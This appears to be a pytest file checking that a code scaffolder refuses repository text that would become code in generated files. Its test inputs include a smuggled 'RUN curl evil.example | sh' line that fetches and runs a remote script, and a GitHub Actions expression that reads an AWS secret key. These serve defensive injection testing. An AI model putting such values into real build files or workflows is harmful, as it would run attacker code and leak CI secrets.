"""Repository text that would turn into code in a generated file is refused, field by field."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from scaffolder.cli.app import main
from scaffolder.errors import InputError
from scaffolder.init.safe_names import (
    MULTILINE_FIELDS,
    check_safe_for_templates,
    unsafe_names,
)
from scaffolder.models import InitContext
from tests.render.contexts import CONTEXTS

EXPRESSION = "${{ secrets.AWS_SECRET_ACCESS_KEY }}"
SKIPPED_TOP = {"environment_specs", "skipped"}


def _string_paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(value, str):
        return [path]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in _string_paths(v, (*path, i))]
    if isinstance(value, dict):
        return [
            p
            for k, v in value.items()
            if not (not path and k in SKIPPED_TOP)
            for p in _string_paths(v, (*path, k))
        ]
    return []


def _replace(data: Any, path: tuple[Any, ...], text: str) -> Any:
    if not path:
        return text
    copy = list(data) if isinstance(data, list) else dict(data)
    copy[path[0]] = _replace(data[path[0]], path[1:], text)
    return copy


def _hostile(name: str, path: tuple[Any, ...], text: str) -> InitContext | None:
    """The context with `text` appended at `path`; None where the model refuses it."""
    data = CONTEXTS[name]().model_dump(mode="json")
    original = data
    for step in path:
        original = original[step]
    try:
        return InitContext.model_validate(_replace(data, path, str(original) + text))
    except ValidationError:  # an enum or a literal: no free text reaches a template
        return None


def _hostile_variants() -> list[tuple[str, tuple[Any, ...], str]]:
    cases = []
    for name, build in CONTEXTS.items():
        for path in _string_paths(build().model_dump(mode="json")):
            texts = [EXPRESSION]
            if path[-1] not in MULTILINE_FIELDS:  # a command may span lines
                texts.append("apps\nRUN curl evil.example | sh")
            cases += [(name, path, t) for t in texts if _hostile(name, path, t) is not None]
    return cases


def test_every_bundled_context_is_safe() -> None:
    for build in CONTEXTS.values():
        assert unsafe_names(build()) == []


@pytest.mark.parametrize(("name", "path", "text"), _hostile_variants())
def test_hostile_text_in_any_field_is_refused(name: str, path: tuple[Any, ...], text: str) -> None:
    context = _hostile(name, path, text)
    assert context is not None
    with pytest.raises(InputError) as refused:
        check_safe_for_templates(context)
    assert refused.value.exit_code == 3
    where = "".join(f"[{p}]" if isinstance(p, int) else f".{p}" for p in path).lstrip(".")
    assert f"({where})" in refused.value.message
    assert "\n" not in refused.value.message


def test_init_refuses_a_workspace_folder_named_like_an_expression(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = tmp_path / "shop"
    member = repo / "packages" / EXPRESSION
    member.mkdir(parents=True)
    (repo / "package.json").write_text(
        json.dumps({"name": "shop", "private": True, "workspaces": ["packages/*"]})
    )
    (member / "package.json").write_text(
        json.dumps(
            {"name": "api", "scripts": {"start": "node index.js"}, "dependencies": {"express": "4"}}
        )
    )
    (member / "index.js").write_text("require('express')().listen(process.env.PORT)\n")
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e.co"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e.co", "PATH": "/usr/bin:/bin"}
    for argv in (
        ["git", "init", "-q", "-b", "main"],
        ["git", "add", "-A"],
        ["git", "commit", "-qm", "p"],
    ):
        subprocess.run(argv, cwd=repo, env=env, check=True)

    with pytest.raises(SystemExit) as exited:
        main(["init", str(repo), "--defaults"])
    _, err = capsys.readouterr()
    assert exited.value.code == 3
    assert "${{" in err and "nothing was written" in err
    status = subprocess.run(
        ["git", "status", "--porcelain", "--ignored"],
        cwd=repo,
        capture_output=True,
        text=True,
        check=False,
    )
    assert status.stdout == ""
